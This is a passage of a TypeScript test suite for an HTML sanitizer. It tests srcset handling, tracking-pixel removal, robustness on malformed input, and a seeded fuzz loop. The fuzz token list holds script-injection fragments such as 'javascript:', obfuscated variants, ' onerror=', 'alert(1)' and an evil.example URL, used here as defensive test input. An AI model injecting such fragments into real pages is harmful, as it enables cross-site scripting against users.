        { url: 'https://cdn.example/a.jpg?v=1%2C%2C', descriptors: [] },
        { url: 'https://cdn.example/b.jpg', descriptors: ['640w'] },
      ],
    },
    {
      html: '<picture><source srcset="https://cdn.example/a.jpg?v=a,b,&fbclid=3 1.5x"></picture>',
      want: [{ url: 'https://cdn.example/a.jpg?v=a,b%2C', descriptors: ['1.5x'] }],
    },
  ];
  for (const { html, want } of srcsets) {
    it(`writes a srcset a browser reads as meant: ${html}`, () => {
      const srcset = /srcset="([^"]*)"/.exec(sanitizeHtml(html, BASE))?.[1] ?? '';
      assert.deepEqual(browserSrcset(decodeHTMLAttribute(srcset)), want);
    });
  }
});

describe('sanitizeHtml on elements without attributes', () => {
  const cases: { html: string; want: string }[] = [
    // Written as they are.
    { html: '<p>a<br>b</p><hr><p><code>c</code></p>', want: '<p>a<br />b</p><hr /><p><code>c</code></p>' },
    // Nothing to show without a URL: dropped, the first two with their content.
    { html: '<p>a<img>b</p>', want: '<p>ab</p>' },
    { html: '<p>a<iframe>x</iframe>b</p>', want: '<p>ab</p>' },
    { html: '<video><source>x</video>', want: '<video controls>x</video>' },
    // Given what every element of theirs gets, or nothing when it needs a URL first.
    { html: '<audio></audio>', want: '<audio controls></audio>' },
    { html: '<a>x</a><blockquote>y</blockquote>', want: '<a>x</a><blockquote>y</blockquote>' },
  ];
  for (const { html, want } of cases) {
    it(html, () => assert.equal(sanitizeHtml(html, BASE), want));
  }
});

describe('sanitizeHtml drops tracking pixels', () => {
  const dropped = [
    '<img src="https://e.com/p.gif" width="1" height="1">',
    '<img src="https://e.com/p.gif" width="0" height="0">',
    '<img src="https://e.com/p.gif" width="1px" height=" 1 ">',
    // a browser reads the leading number and ignores the rest
    '<img src="https://t.example/p.gif" width="1;" height="1;">',
    '<img src="https://t.example/p.gif" width="1e0" height="1e0">',
    '<img src="https://t.example/p.gif" width="1pt" height="1pt">',
    '<img src="https://t.example/p.gif" width="1,0" height="1 1">',
    '<img src="https://t.example/p.gif" width="0.5" height="1.">',
    '<img src="https://t.example/p.gif" width="\n1" height="1.0em">',
    '<img src="http://feeds.feedburner.com/~r/Example/~4/abc" height="1" width="1" alt="">',
    '<img src="https://pixel.wp.com/g.gif?blog=1&post=2">',
    '<img src="https://stats.wordpress.com/b.gif?host=example.com">',
    '<img src="https://feeds.wordpress.com/1.0/comments/example.wordpress.com/1/">',
    // the same host written with a trailing dot, and a pixel a browser would pick from srcset
    '<img src="https://pixel.wp.com./g.gif">',
    '<img src="https://Stats.WordPress.com./b.gif">',
    '<img srcset="https://pixel.wp.com/g.gif">',
    '<img srcset="https://pixel.wp.com./g.gif 1x, https://stats.wordpress.com/b.gif 2x">',
  ];
  for (const html of dropped) {
    it(`drops ${html}`, () => assert.equal(sanitizeHtml(`<p>a${html}b</p>`, BASE), '<p>ab</p>'));
  }
  const kept = [
    '<img src="https://e.com/p.gif" width="1" height="20">',
    '<img src="https://e.com/p.gif" width="1">',
    '<img src="https://e.com/p.gif" width="2" height="2">',
    '<img src="https://e.com/p.gif" width="1%" height="1%">',
    '<img src="https://e.com/p.gif" width="1.5;" height="1">',
    '<img src="https://e.com/p.gif" width=".5" height="1">',
    '<img src="https://feeds.feedburner.com/Example/logo.png">',
    '<img src="https://wordpress.com/i/logo.png">',
  ];
  for (const html of kept) {
    it(`keeps ${html}`, () => assert.match(sanitizeHtml(html, BASE), /^<img /));
  }

  const withoutPixelSources: { html: string; want: string }[] = [
    {
      html: '<img src="https://example.com/real.jpg" srcset="https://pixel.wp.com/g.gif 1x">',
      want: '<img src="https://example.com/real.jpg" loading="lazy" />',
    },
    {
      html: '<img srcset="https://pixel.wp.com./g.gif 1x, https://example.com/a.jpg 2x">',
      want: '<img srcset="https://example.com/a.jpg 2x" loading="lazy" />',
    },
    {
      html: '<picture><source srcset="https://pixel.wp.com/g.gif"><img src="https://example.com/real.jpg"></picture>',
      want: '<picture><img src="https://example.com/real.jpg" loading="lazy" /></picture>',
    },
  ];
  for (const { html, want } of withoutPixelSources) {
    it(`drops the pixels from ${html}`, () => assert.equal(sanitizeHtml(html, BASE), want));
  }
});

describe('sanitizeHtml never throws', () => {
  const cases: { name: string; html: string }[] = [
    { name: 'empty', html: '' },
    { name: 'only text', html: 'just & some < text > here' },
    { name: 'unbalanced tags', html: '</p></div><p><b><i>x</p></b></i><table><td>y</tr></li>' },
    { name: 'bare angle brackets', html: '< > << >> </ /> <!-- <! <? <![CDATA[' },
    { name: 'broken entities', html: '&#; &#x; &#99999999999; &#xD800; &bogus; &amp' },
    { name: 'a megabyte of nested divs', html: '<div>'.repeat(200_000) + 'deep' + '</div>'.repeat(200_000) },
    { name: 'a megabyte of unclosed tags', html: '<span><b><i><u>'.repeat(60_000) + 'x' },
    { name: 'a megabyte of attributes', html: `<p ${'a=1 '.repeat(250_000)}>x</p>` },
    { name: 'a megabyte href', html: `<a href="https://e.com/${'a'.repeat(1 << 20)}">x</a>` },
    { name: 'a megabyte title', html: `<a title="${'t'.repeat(1 << 20)}">x</a>` },
    { name: 'a megabyte srcset', html: `<img src="a.png" srcset="${'a.png 1x, '.repeat(100_000)}">` },
    { name: 'a megabyte data image', html: `<img src="data:image/png;base64,${'A'.repeat(1 << 20)}">` },
    { name: 'a megabyte unterminated attribute', html: `<img src="${'x'.repeat(1 << 20)}` },
    { name: 'lone surrogates', html: '<p title="\ud800">\udfff</p>' },
  ];
  for (const { name, html } of cases) {
    it(name, () => {
      const output = sanitizeHtml(html, BASE);
      assertSafe(output, html.slice(0, 200));
    });
  }

  it('keeps the text of deeply nested markup', () => {
    const output = sanitizeHtml('<div>'.repeat(200_000) + 'deep' + '</div>'.repeat(200_000), BASE);
    assert.match(output, /deep/);
    assert.ok(output.length < 10_000);
  });
});

// ---------------------------------------------------------------------------------------------
// Fuzz: mutated fragments of everything above, from a seeded generator so a failure replays.

// prettier-ignore
const TOKENS = [
  '<', '>', '</', '/>', '"', "'", '`', '=', ' ', '\t', '\n', '\u0000', '&', '&#', ';', ':', '#', '-->', '<!--',
  ']]>', '<![CDATA[', '<script>', '</script>', '<svg>', '</svg>', '<math>', '<style>', '</style>', '<noscript>',
  '</noscript>', '<iframe src=', '<img src=', ' onerror=', ' style=', ' href=', ' srcset=', 'javascript:',
  'JaVaScRiPt:', 'java&#x09;script:', 'data:', 'data:image/png;base64,', 'data:image/svg+xml,', '//', 'alert(1)',
  'https://www.youtube.com/embed/x', 'https://evil.example/', '?utm_source=x', '<a ', '<p>', '</p>', '<div>',
  '</div>', '<table>', '<td>', '<textarea>', '<template>', '<title>', '<xmp>', '<object>', '<embed ', '<base ',
];

const SEEDS = [
  ...HOSTILE.map((c) => c.html),
  '<p>Plain <a href="/x">link</a> and <img src="y.png" srcset="y.png 1x, y2.png 2x"> <video src=v poster=p></video></p>',
  '<iframe src="https://www.youtube.com/embed/x"></iframe><blockquote cite="/c">q</blockquote>',
];

function mutate(random: () => number, input: string): string {
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
  const at = (): number => Math.floor(random() * (input.length + 1));
  let html = input;
  const steps = 1 + Math.floor(random() * 6);
  for (let step = 0; step < steps; step++) {
    const i = at();
    switch (Math.floor(random() * 7)) {
      case 0: // insert a token
        html = html.slice(0, i) + pick(TOKENS) + html.slice(i);
        break;
      case 1: // delete a range
        html = html.slice(0, i) + html.slice(i + Math.floor(random() * 12));
        break;
      case 2: // duplicate a range
        html = html.slice(0, i) + html.slice(i, i + Math.floor(random() * 40)) + html.slice(i);
        break;
      case 3: // splice in part of another seed
        html = html.slice(0, i) + pick(SEEDS).slice(Math.floor(random() * 20)) + html.slice(i);
        break;
      case 4: // flip case
        html = html.slice(0, i) + html.slice(i, i + 10).toUpperCase() + html.slice(i + 10);
        break;
      case 5: // truncate
        html = html.slice(0, i);
        break;
      default: // a random character, often one HTML cares about
        html = html.slice(0, i) + String.fromCharCode(Math.floor(random() * 128)) + html.slice(i);
    }
  }
  return html;
}

describe('sanitizeHtml fuzz', () => {
  it('never throws, and its output is allowlisted and reads the same a second time (4,000 cases)', () => {
    const random = prng(0x5eed);
    for (let n = 0; n < 4000; n++) {
      const input = mutate(random, SEEDS[n % SEEDS.length] ?? '');
      const base = n % 5 === 0 ? null : BASE;
      const output = sanitizeHtml(input, base);
      assertSafe(output, input);
      // Read again, the output still shows the same text and nothing more: no markup hides in the
      // text or attributes that a second parse could bring to life. (Its tree may still change, as
      // when a removed element had stopped a <p> from closing another.)
      const again = sanitizeHtml(output, base);
      assertSafe(again, output);
      assert.equal(htmlToText(again), htmlToText(output), `text changed on a second pass of: ${input}`);
      // Its text, read back from the output without parsing it, is the text the sanitizer gave.
      assert.equal(sanitizedHtmlText(output), sanitizeWithText(input, base).text, `input: ${input}`);
    }
  });
});

describe('sanitizeWithText', () => {
  it('gives the text htmlToText reads from its HTML, from the same single parse', () => {
    const inputs = [
      ...HOSTILE.map((c) => c.html),
      '<p>One</p><p>Two <b>bold</b> &amp; <i>more</i></p><ul><li>a</li><li>b</li></ul>',
      '<div>Hello<br>world</div><script>hidden()</script><style>.x{}</style>',
      '<table><tr><td>1</td><td>2</td></tr></table><pre>  code\n  block </pre>',
      '<p>中文内容<a href="/x">链接</a></p>',
    ];
    for (const html of inputs) {
      const { html: safe, text } = sanitizeWithText(html, BASE);
      assert.equal(safe, sanitizeHtml(html, BASE));
      assert.equal(text, htmlToText(safe), `input: ${html}`);
      assert.equal(sanitizedHtmlText(safe), text, `input: ${html}`);
    }
  });
});
